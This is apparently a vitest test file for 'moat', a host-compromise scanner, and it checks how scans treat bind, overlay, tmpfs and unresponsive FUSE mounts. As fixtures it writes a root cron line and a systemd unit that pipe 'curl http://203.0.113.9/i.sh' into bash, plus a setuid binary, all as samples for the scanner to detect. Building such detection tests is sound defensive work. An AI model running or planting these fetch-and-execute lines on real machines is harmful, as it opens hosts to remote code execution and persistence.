/**
 * Scans of trees in which real file systems are mounted, a FUSE one that never answers among them.
 */
import { spawn, spawnSync } from 'node:child_process';
import { mkdirSync, readlinkSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, describe, expect, it, onTestFinished } from 'vitest';
import { abandonedChildren } from '../src/agent/child.ts';
import { scanInProcess } from '../src/agent/scan-process.ts';
import type { ScanRequest } from '../src/agent/scan.ts';
import type { ScanReport } from '../src/scan/report.ts';
import { moatBin } from './live/moat.ts';
import { mountNeeds, Mounts, openMounts } from './mounts.ts';
import { lacks } from './need.ts';
import { makeRoot } from './throwaway-root.ts';

const evil = '* * * * * root curl -fsSL http://203.0.113.9/i.sh | bash\n';
const path = '/usr/sbin:/usr/bin:/sbin:/bin';

const exeOf = (pid: number): string | undefined => { try { return readlinkSync(`/proc/${pid}/exe`); } catch { return undefined; /* not yet */ } };

const scanIn = (mounts: Mounts, request: ScanRequest, stillAfterMs?: number, warn: string[] = []): Promise<ScanReport> =>
  scanInProcess(request, { signal: new AbortController().signal, nice: false, maxMemoryMb: 1024, warn: (text) => warn.push(text.en), within: mounts.within, ...(stillAfterMs !== undefined && { stillAfterMs }) });
const blindOf = ({ blind }: ScanReport): string[] => blind.map(({ check, what, why }) => `${check} ${what ?? '-'}: ${why.en.slice(0, 60)}`);
const foundAt = ({ findings }: ScanReport, check: string): string[] => findings.filter((one) => one.check === check).map((one) => one.path ?? '');

describe.skipIf(lacks(mountNeeds))('what is mounted in a tree', () => {
  it('is looked at when this machine answers for it: memory, a bind, an overlay', async () => {
    const root = makeRoot({ '/etc/cron.d/own': '# nothing\n', '/hoard/cron/bound': evil, '/hoard/lower/laid': evil });
    for (const name of ['var/www/x', 'etc/cron.daily', 'work', 'upper', 'home/lin/.config']) mkdirSync(join(root, name), { recursive: true });
    const mounts = await openMounts(`mount --bind '${root}/hoard/cron' '${root}/etc/cron.d'; mount -t tmpfs none '${root}/home/lin/.config'; mkdir -p '${root}/home/lin/.config/systemd/user'
      printf '[Service]\\nExecStart=/bin/sh -c "curl -fsSL http://203.0.113.9/i.sh | bash"\\n' > '${root}/home/lin/.config/systemd/user/a.service'
      mount -t overlay o -o 'lowerdir=${root}/hoard/lower:${root}/work' '${root}/var/www/x'; cp /usr/bin/true '${root}/home/lin/.config/set'; chmod 4755 '${root}/home/lin/.config/set'`);
    const report = await scanIn(mounts, { root, only: ['cron', 'systemd', 'setuid'] });
    expect(blindOf(report)).toEqual([]);
    expect(report.findings.map(({ path: at }) => at)).toEqual(expect.arrayContaining(['/etc/cron.d/bound', '/home/lin/.config/systemd/user/a.service', '/home/lin/.config/set']));
  });

  it('is told as not looked at when a program answers for it, wherever a link leads to it, and nobody waits for one that is silent', async () => {
    const root = makeRoot({ '/etc/cron.d/zz': evil, '/etc/crontab': '# own\n', '/home/lin/.ssh/authorized_keys': '', '/data/tool': { text: 'x', package: 'tool' }, '/opt/tool': { text: 'x', package: 'tool' } });
    rmSync(join(root, 'opt/tool'));
    for (const name of ['var/spool/cron/crontabs', 'srv/deep']) mkdirSync(join(root, name), { recursive: true });
    symlinkSync('/data/job', join(root, 'etc/cron.d/linked'));
    const mounts = await openMounts();
    await mounts.fuse(join(root, 'etc/crontab'), 'file', true);
    await mounts.fuse(join(root, 'home/lin/.ssh'), 'folder', true);
    await mounts.fuse(join(root, 'var/spool/cron/crontabs'), 'folder', true);
    await mounts.fuse(join(root, 'data'), 'folder', true);
    const report = await scanIn(mounts, { root });
    expect(report.stopped).toBeUndefined();
    expect(foundAt(report, 'cron')).toContain('/etc/cron.d/zz');
    expect(blindOf(report)).toEqual(expect.arrayContaining([
      ...['/etc/crontab', '/home/lin/.ssh', '/var/spool/cron/crontabs', '/data'].map((at) => `mounts ${at}: what is mounted here (fuse.moat-test, moat-test) is not look`),
      'cron /etc/crontab: what is mounted here (fuse.moat-test, moat-test) is not look', expect.stringMatching(/^cron \/etc\/cron\.d\/linked: it lies on the mount \/data \(fuse\.moat-test, moat-test\)/),
      expect.stringMatching(/^cron \/var\/spool\/cron\/crontabs/), expect.stringMatching(/^ssh-keys \/home\/lin\/\.ssh\//),
    ]));
    expect(report.blind.filter(({ why }) => why.en.startsWith('unexpected'))).toEqual([]);
    // What a package has there is not missing; the rest of its database holds.
    expect(report.findings.filter(({ check }) => check === 'package-files').map(({ evidence }) => evidence.map(({ value }) => value).join())).toEqual([expect.not.stringContaining('/data/tool')]);
    expect(report.blind.filter(({ check }) => check === 'packages')).toEqual([]);
    expect(report.verdict).toBe('compromised');
  });

  it('is left out or looked into as the operator says', async () => {
    const root = makeRoot();
    for (const name of ['data/a', 'etc/cron.d', 'mnt/b']) mkdirSync(join(root, name), { recursive: true });
    const mounts = await openMounts();
    await mounts.fuse(join(root, 'data/a'), 'folder', true);
    await mounts.fuse(join(root, 'etc/cron.d'), 'folder', false);
    const only = ['cron', 'setuid'];
    expect(blindOf(await scanIn(mounts, { root, only })).map((line) => line.split(':')[0])).toEqual(['cron /etc/cron.d', 'mounts /data/a', 'mounts /etc/cron.d']);
    const told = await scanIn(mounts, { root, only, mounts: { without: ['/data'], into: ['/etc/cron.d'] } });
    expect([blindOf(told), foundAt(told, 'cron'), told.counts['mounts passed over: fuse.moat-test']]).toEqual([[], ['/etc/cron.d/job', '/etc/cron.d/sleep'], 1]);
    const quiet = await scanIn(mounts, { root, only, mounts: { without: ['/data', '/etc/cron.d'] } });
    expect([quiet.verdict, quiet.counts['looks at mounts that were left out']]).toEqual(['clean', 1]);
  });

  it('over a fixed file of this machine is told and found, and the rest of the check is done', async () => {
    const root = makeRoot();
    writeFileSync(join(root, 'silent'), '');
    const mounts = await openMounts();
    await mounts.fuse(join(root, 'silent'), 'file', true);
    mounts.run(`mount --bind '${root}/silent' /etc/crontab`);
    const report = await scanIn(mounts, { only: ['cron', 'covered-place'], profile: 'quick' });
    expect(blindOf(report)).toContain('cron /etc/crontab: what is mounted here (fuse.moat-test, moat-test) is not look');
    expect(foundAt(report, 'covered-place')).toEqual(['/etc/crontab']);
    expect(report.stopped).toBeUndefined();
  });
});

describe.skipIf(lacks(mountNeeds))('a program that runs from a mount of another namespace', () => {
  it('is not asked for its file', async () => {
    const root = makeRoot();
    const theirs = await openMounts();
    mkdirSync(join(root, 'far'));
    await theirs.fuse(join(root, 'far'), 'folder', false);
    const program = join(root, 'far/sleep');
    // It answers until the program runs, and then never again.
    const sleeper = spawn(theirs.within[0]!, [...theirs.within.slice(1), program, '600'], { stdio: 'ignore' });
    onTestFinished(() => { sleeper.kill('SIGKILL'); });
    await expect.poll(() => exeOf(sleeper.pid!)).toBe(program);
    writeFileSync(join(root, 'far.silent'), '');
    // Here, a file of that name is nobody's secret.
    writeFileSync(program, 'x');
    const report = await scanInProcess({ only: ['process-program'] }, { signal: new AbortController().signal, nice: false, maxMemoryMb: 1024, warn: () => undefined, stillAfterMs: 20_000 });
    expect(report.stopped).toBeUndefined();
  });
});

describe.skipIf(lacks(mountNeeds))('moat scan', () => {
  it('exits 2 for a mount that nobody named, says what to type, and 0 once that was typed or configured', async () => {
    const root = makeRoot();
    const configured = makeRoot({ '/own.yaml': 'scan:\n  without_mounts: [/data]\n' });
    mkdirSync(join(root, 'data'));
    const mounts = await openMounts();
    await mounts.fuse(join(root, 'data'), 'folder', true);
    const run = (...args: string[]): { status: number | null; said: string } => {
      const { status, stdout, stderr } = spawnSync(mounts.within[0]!, [...mounts.within.slice(1), process.execPath, moatBin, 'scan', '--no-nice', '--only', 'setuid', '--root', root, ...args], { encoding: 'utf8', env: { ...process.env, PATH: path, NO_COLOR: '1' } });
      return { status, said: (stdout + stderr).replaceAll(/\s+/g, ' ') };
    };
    expect(run('--lang', 'en')).toMatchObject({ status: 2, said: expect.stringMatching(/Not known to be clean.*\/data.*--without-mount \/data.*--into-mount \/data/) as string });
    expect(run('--lang', 'zh')).toMatchObject({ status: 2, said: expect.stringMatching(/没有进去看.*--without-mount \/data/) as string });
    expect(run('--without-mount', '/data').status).toBe(0);
    expect(run('--without-mount', 'data')).toMatchObject({ status: 2, said: expect.stringContaining('expected the path of a mount') as string });
    // What is configured is meant for the running machine, not for a disk that has a folder of that name.
    expect(run('--config', join(configured, 'own.yaml')).status).toBe(2);
  });

  it('knows of the running machine what was configured once', async () => {
    const configured = makeRoot({ '/own.yaml': '', '/silent': '' });
    writeFileSync(join(configured, 'own.yaml'), `scan:\n  without_mounts: ['${configured}/silent', /etc/crontab]\n`);
    const mounts = await openMounts();
    await mounts.fuse(join(configured, 'silent'), 'file', true);
    mounts.run(`mount --bind '${configured}/silent' /etc/crontab`);
    const run = (...args: string[]): string => spawnSync(mounts.within[0]!, [...mounts.within.slice(1), process.execPath, moatBin, 'scan', '--no-nice', '--no-hand-over', '--data', join(configured, 'data'), '--lang', 'en', '--only', 'cron', '--json', ...args], { encoding: 'utf8', env: { ...process.env, PATH: path, NO_COLOR: '1' } }).stderr;
    expect(run()).toContain('could not look: cron /etc/crontab: what is mounted here');
    expect(run('--config', join(configured, 'own.yaml'))).not.toContain('/etc/crontab');
  });
});

describe.skipIf(lacks(mountNeeds))('a mount that stops answering while it is looked at', () => {
  afterEach(async () => {
    // What waited was let go with the servers, and then the kill that was sent reaches it.
    await expect.poll(abandonedChildren, { timeout: 60_000 }).toBe(0);
  });

  it('is given up: the scan is done again without it, and says so', async () => {
    const root = makeRoot({ '/etc/cron.d/zz': evil });
    mkdirSync(join(root, 'data'));
    const mounts = await Mounts.open();
    try {
      await mounts.fuse(join(root, 'data'), 'folder', true);
      const warned: string[] = [];
      const request: ScanRequest = { root, only: ['cron', 'setuid'], mounts: { into: ['/data'] } };
      const report = await scanIn(mounts, request, 4000, warned);
      expect(warned).toEqual([expect.stringContaining(`${root}/data does not answer`)]);
      expect(report.stopped).toBeUndefined();
      expect(foundAt(report, 'cron')).toEqual(['/etc/cron.d/zz']);
      expect(report.blind).toMatchObject([{ check: 'mounts', what: '/data', why: { en: expect.stringContaining('it was asked and never answered') as string, zh: expect.stringContaining('一直不应答') as string } }]);
      // It waits in the kernel and could not even be killed; the next scan does not join it.
      expect(abandonedChildren()).toBe(1);
      expect((await scanIn(mounts, request, 4000)).blind).toHaveLength(1);
      expect(abandonedChildren()).toBe(1);
    } finally { await mounts.close(); }
  });

  it('that the tree itself lies on ends the scan with what it waits for', async () => {
    const root = makeRoot();
    mkdirSync(join(root, 'far'));
    const mounts = await Mounts.open();
    try {
      await mounts.fuse(join(root, 'far'), 'folder', true);
      const report = await scanIn(mounts, { root: join(root, 'far'), only: ['cron'] }, 4000);
      expect(report.stopped?.en).toMatch(/^nothing moved for 4 seconds, it waits for .*\/far.*, on the mount .*\/far \(fuse\.moat-test\): unmount it/);
      expect(report.blind).toMatchObject([{ check: 'scan' }]);
    } finally { await mounts.close(); }
  });
});

